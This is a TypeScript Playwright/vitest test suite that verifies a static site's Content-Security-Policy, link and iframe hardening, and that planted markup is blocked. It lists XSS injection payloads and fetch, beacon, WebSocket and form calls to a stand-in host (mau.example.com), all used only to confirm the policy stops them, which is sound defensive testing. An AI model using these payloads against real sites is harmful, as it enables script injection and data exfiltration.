import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { CspEvaluator } from 'csp_evaluator/dist/evaluator.js'
import { Severity } from 'csp_evaluator/dist/finding.js'
import { CspParser } from 'csp_evaluator/dist/parser.js'
import type { Page } from 'playwright-core'
import { beforeAll, describe, expect, inject, test } from 'vitest'
import { openBrowser, refreshed, type Visit } from './browser'
import { setTripwires, sprung } from './hostile/tripwires'
import { builtSite } from './sites'

// Nothing here is Chromium's own: a browser without Trusted Types skips no case, its refusal has another name.
const visit = openBrowser()
const SITE = () => inject('sites').root

describe.each(['root/index.html', 'nested/index.html', 'unread/index.html', 'root/404.html'])(
  '%s',
  (file) => {
    let html: string
    beforeAll(async () => {
      const [site = '', page = ''] = file.split('/')
      html = await readFile(join(builtSite(site), page), 'utf8')
    })

    test('carries its policy before anything that it could bind', () => {
      expect(html).toMatch(
        /^<!DOCTYPE html>\s*<html [^>]*>\s*<head>\s*<meta charset="utf-8">\s*<meta http-equiv="Content-Security-Policy"/,
      )
      expect(html).toContain('<meta name="referrer" content="no-referrer">')
    })

    test("leaves Google's evaluator nothing serious to find", () => {
      const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? ''
      const findings = new CspEvaluator(new CspParser(policy).csp).evaluate()
      const { HIGH, SYNTAX, MEDIUM, HIGH_MAYBE } = Severity
      // An address in numbers is what the embedded backend has; a project's has a name.
      const serious = findings.filter(
        ({ severity, value }) =>
          [HIGH, SYNTAX, MEDIUM, HIGH_MAYBE].includes(severity) && !value?.includes('127.0.0.1'),
      )
      expect(serious).toEqual([])
      expect(policy).not.toMatch(/unsafe|\*/)
    })

    test('lets no other page know of this one, and no frame out of its box', () => {
      for (const [link] of html.matchAll(/<a [^>]*href="?https?:[^>]*>/g))
        expect(link).toMatch(/target=_blank rel="noopener noreferrer"/)
      for (const [frame] of html.matchAll(/<iframe [^>]*>/g))
        expect(frame).toMatch(/ sandbox="?allow-scripts"?[ >]/)
    })
  },
)

describe('the policy is never breached by the page itself', () => {
  const quiet = async (visitor: Visit) => {
    expect(await sprung(visitor.page)).toEqual([])
    expect(visitor.console).toEqual([])
    expect(visitor.errors).toEqual([])
  }

  test.each(['root', 'nested', 'unread'] as const)('%s: menu, card, map, footer', async (site) => {
    const visitor = await visit(inject('sites')[site], {
      before: setTripwires,
      viewport: { width: 390, height: 844 },
    })
    const { page } = visitor
    await refreshed(page)
    await page.locator('.header__toggle').click()
    await page.keyboard.press('Escape')
    await page.locator('.news-card__toggle').first().click()
    await page.locator('#location').scrollIntoViewIfNeeded()
    await page.locator('iframe.location-map__frame').waitFor({ state: 'attached' })
    await page.locator('footer').scrollIntoViewIfNeeded()
    await page.locator('summary').first().click()
    await quiet(visitor)
  })

  test('newer rows with a picture beside them, shown by React', async () => {
    const post = {
      ...inject('snapshot').rows.blog_posts[0],
      title: 'Com imagem',
      image_url: `${inject('backend').url}/storage/v1/object/public/news/mei.jpg?nova`,
    }
    const visitor = await visit(SITE(), {
      before: async (page) => {
        await setTripwires(page)
        await page.route('**/rest/v1/blog_posts?**', (route) =>
          route.fulfill({ json: [post], headers: { 'access-control-allow-origin': '*' } }),
        )
      },
    })
    const picture = visitor.page.locator('#blog img').first()
    await picture.scrollIntoViewIfNeeded()
    await expect
      .poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth))
      .toBeGreaterThan(0)
    await quiet(visitor)
  })

  test('no script at all, with the map', async () => {
    const visitor = await visit(SITE(), { javaScriptEnabled: false })
    await visitor.page.locator('#location').scrollIntoViewIfNeeded()
    await expect
      .poll(() => visitor.requests.some((url) => url.startsWith('https://www.google.com/maps')))
      .toBe(true)
    expect(visitor.console).toEqual([])
  })
})

describe('what somebody plants is blocked', () => {
  const FOREIGN = 'https://mau.example.com'

  // What is in the document when it arrives, as if a way around the escaping had been found; and the breach it makes.
  const PLANTED: Record<string, string> = {
    '<script>ran()</script>': 'script-src-elem: inline',
    '<img src=data:, onerror=ran()>': 'script-src-attr: inline',
    [`<script src=${FOREIGN}/classic.js></script>`]: `script-src-elem: ${FOREIGN}/classic.js`,
    [`<script type=module src=${FOREIGN}/module.js></script>`]: `script-src-elem: ${FOREIGN}/module.js`,
    '<script src="data:text/javascript,ran()"></script>': 'script-src-elem: data',
    [`<iframe src=${FOREIGN}/frame></iframe>`]: `frame-src: ${FOREIGN}`,
    [`<img src=${FOREIGN}/picture.png>`]: `img-src: ${FOREIGN}/picture.png`,
    [`<link rel=stylesheet href=${FOREIGN}/sheet.css>`]: `style-src-elem: ${FOREIGN}/sheet.css`,
    '<style>main{display:none}</style>': 'style-src-elem: inline',
    '<p style="position:fixed;inset:0">': 'style-src-attr: inline',
    [`<object data=${FOREIGN}/object.swf></object>`]: `object-src: ${FOREIGN}`,
    [`<base href=${FOREIGN}/base/>`]: `base-uri: ${FOREIGN}/base/`,
    [`<video src=${FOREIGN}/film.mp4></video>`]: `media-src: ${FOREIGN}/film.mp4`,
  }

  test('in the document: script, handler, frame, picture, style, object, base', async () => {
    const { page, reached } = await visitPlanted(Object.keys(PLANTED).join('\n'))
    for (const breach of Object.values(PLANTED))
      await expect.poll(() => sprung(page)).toContainEqual(expect.stringContaining(breach))
    await unharmed(page, reached)
  })

  test('in a frame of its own making, which inherits the policy', async () => {
    const { page, reached } = await visitPlanted(
      '<iframe srcdoc="<script>parent.ran()</script><p>dentro"></iframe>',
    )
    await page.frameLocator('iframe[srcdoc]').getByText('dentro').waitFor()
    await unharmed(page, reached)
  })

  // What a script of the site would do if it were led to.
  const ACTS: Record<string, () => unknown> = {
    'connect-src: https://mau.example.com/fetch': () => fetch('https://mau.example.com/fetch'),
    'connect-src: https://mau.example.com/beacon': () =>
      navigator.sendBeacon('https://mau.example.com/beacon'),
    'connect-src: wss://mau.example.com/': () => new WebSocket('wss://mau.example.com/'),
    'form-action: https://mau.example.com': () => {
      const form = document.createElement('form')
      form.action = 'https://mau.example.com/form'
      document.body.append(form)
      form.submit()
    },
    'script-src-elem: inline': () => {
      const link = document.createElement('a')
      link.href = 'javascript:ran()'
      document.body.append(link)
      link.click()
    },
    // Chromium's way of saying that a string was given where only a trusted type may stand.
    'require-trusted-types-for: trusted-types-sink': () => {
      document.body.innerHTML = '<img src=x onerror=ran()>'
    },
  }

  test('by a script: connection, form, script in a link, HTML from a string', async () => {
    const { page, reached } = await visitPlanted('')
    for (const [breach, act] of Object.entries(ACTS)) {
      await page.evaluate(act).catch(() => {})
      await expect.poll(() => sprung(page)).toContainEqual(expect.stringContaining(breach))
    }
    await unharmed(page, reached)
  })

  async function visitPlanted(planted: string): Promise<{ page: Page; reached: string[] }> {
    const reached: string[] = []
    const { page } = await visit(SITE(), {
      before: async (page) => {
        await setTripwires(page)
        await page.route(`${FOREIGN}/**`, (route) => {
          reached.push(route.request().url())
          return route.fulfill({ body: 'ran()', contentType: 'text/javascript' })
        })
        await page.route(SITE(), async (route) => {
          const answer = await route.fetch()
          const body = (await answer.text()).replace('<main', `${planted}<main`)
          await route.fulfill({ response: answer, body })
        })
      },
    })
    return { page, reached }
  }

  async function unharmed(page: Page, reached: string[]) {
    expect(await sprung(page)).not.toContain('ran()')
    expect(reached).toEqual([])
    expect(await page.locator('main').isVisible()).toBe(true)
  }
})
